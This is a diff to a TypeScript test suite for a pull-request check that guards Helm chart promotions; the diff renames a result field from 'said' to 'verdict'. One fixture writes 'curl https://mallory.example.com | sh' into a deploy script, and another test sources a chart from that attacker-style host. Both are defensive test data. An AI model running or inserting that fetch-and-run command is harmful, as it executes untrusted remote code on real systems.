@@ -23,44 +23,44 @@ async function commented(body: string, login = "alice", number = 1): Promise<rea
 
 test("files that no promotion changes fail the check, until they are allowed for this commit", async () => {
   await pushed({ "scripts/deploy.sh": "curl https://mallory.example.com | sh\n" });
-  expect(checkOn(1).said).toMatch(
+  expect(checkOn(1).verdict).toMatch(
     /^failure: It changes files that no promotion changes: scripts\/deploy\.sh/,
   );
   expect(await commented("/allow", "bob")).toEqual(["-1"]);
-  expect(checkOn(1).said).toMatch(/^failure: /);
+  expect(checkOn(1).verdict).toMatch(/^failure: /);
   expect(await commented("/allow")).toEqual(["+1"]);
-  expect(checkOn(1).said).toBe("success: Good to merge: xposer 1.0.1 in dev");
+  expect(checkOn(1).verdict).toBe("success: Good to merge: xposer 1.0.1 in dev");
   expect(checkOn(1).summary).toContain("Allowed by alice for this commit");
   await testBed.restartWithoutDatabase();
   testBed.alice.label(CONFIG_REPOSITORY, 1, "later");
   await testBed.waitUntilIdle();
   expect(checkOn(1)).toMatchObject({
-    said: "success: Good to merge: xposer 1.0.1 in dev",
+    verdict: "success: Good to merge: xposer 1.0.1 in dev",
     summary: expect.stringContaining("Allowed by alice"),
   });
   await pushed({ "scripts/more.sh": "true\n" });
-  expect(checkOn(1).said).toMatch(
+  expect(checkOn(1).verdict).toMatch(
     /^failure: It changes files that no promotion changes: scripts\/deploy\.sh, scripts\/more\.sh/,
   );
 });
 
 test("an archive put in the place of the promotion's own fails the check", async () => {
   await pushed({ "dev/charts/xposer-1.0.1.tgz": "other bytes" });
-  expect(checkOn(1).said).toMatch(
+  expect(checkOn(1).verdict).toMatch(
     /^failure: It changes files that no promotion changes: dev\/charts\/xposer-1\.0\.1\.tgz/,
   );
 });
 
 test("another environment's files fail the check of this one's promotion", async () => {
   await pushed({ "prod/requirements.yaml": "dependencies: []\n" });
-  expect(checkOn(1).said).toMatch(
+  expect(checkOn(1).verdict).toMatch(
     /^failure: It changes files that no promotion changes: prod\/requirements\.yaml/,
   );
 });
 
 test("values that people set on the promotion's branch are judged, and need nobody's word", async () => {
   await pushed({ "dev/xposer.yaml": "xposer:\n  replicas: 3\n" });
-  expect(checkOn(1).said).toBe("success: Good to merge: xposer 1.0.1 in dev");
+  expect(checkOn(1).verdict).toBe("success: Good to merge: xposer 1.0.1 in dev");
   expect(await commented("/allow")).toEqual(["confused"]);
 });
 
@@ -74,11 +74,11 @@ test("a dependency that comes from another repository fails the check, until tha
   });
   const number = testBed.alice.openPullRequest(CONFIG_REPOSITORY, { head: "own", title: "own" });
   await testBed.waitUntilIdle();
-  expect(checkOn(number).said).toMatch(
+  expect(checkOn(number).verdict).toMatch(
     /^failure: xposer would come from https:\/\/mallory\.example\.com\/charts and no more from/,
   );
   expect(await commented("/allow", "alice", number)).toEqual(["+1"]);
-  expect(checkOn(number).said).toBe("success: Good to merge: xposer 1.0.2 in dev");
+  expect(checkOn(number).verdict).toBe("success: Good to merge: xposer 1.0.2 in dev");
   expect(checkOn(number).summary).toContain("Allowed by alice for this commit");
 });
 
@@ -93,27 +93,27 @@ test("a word on one pull request is none on another of the same commit, nor once
   const first = testBed.alice.openPullRequest(CONFIG_REPOSITORY, { head: "own", title: "To dev" });
   await testBed.waitUntilIdle();
   expect(await commented("/allow", "alice", first)).toEqual(["+1"]);
-  expect(checkOn(first).said).toMatch(/^success: /);
+  expect(checkOn(first).verdict).toMatch(/^success: /);
 
   testBed.alice.pushCommit(CONFIG_REPOSITORY, { branch: "same", to: head });
   const second = testBed.alice.openPullRequest(CONFIG_REPOSITORY, {
     ...{ head: "same", base: "release", title: "To prod" },
   });
   await testBed.waitUntilIdle();
-  expect(checkOn(second).said).toMatch(/^failure: xposer would come from/);
+  expect(checkOn(second).verdict).toMatch(/^failure: xposer would come from/);
   expect(checkOn(second).summary).not.toContain("Allowed by");
 
   testBed.alice.close(CONFIG_REPOSITORY, second);
   testBed.alice.label(CONFIG_REPOSITORY, first, "later");
   await testBed.waitUntilIdle();
-  expect(checkOn(first).said).toMatch(/^success: /);
+  expect(checkOn(first).verdict).toMatch(/^success: /);
   expect(checkOn(first).summary).toContain("Allowed by alice");
 
   testBed.alice.editPullRequest(CONFIG_REPOSITORY, first, { base: "release" });
   await testBed.waitUntilIdle();
-  expect(checkOn(first).said).toMatch(/^failure: xposer would come from/);
+  expect(checkOn(first).verdict).toMatch(/^failure: xposer would come from/);
   expect(await commented("/allow", "alice", first)).toEqual(["+1"]);
-  expect(checkOn(first).said).toMatch(/^success: /);
+  expect(checkOn(first).verdict).toMatch(/^success: /);
 });
 
 test("pushes past every pull request, with first lines of 60 kB, leave little on record", async () => {
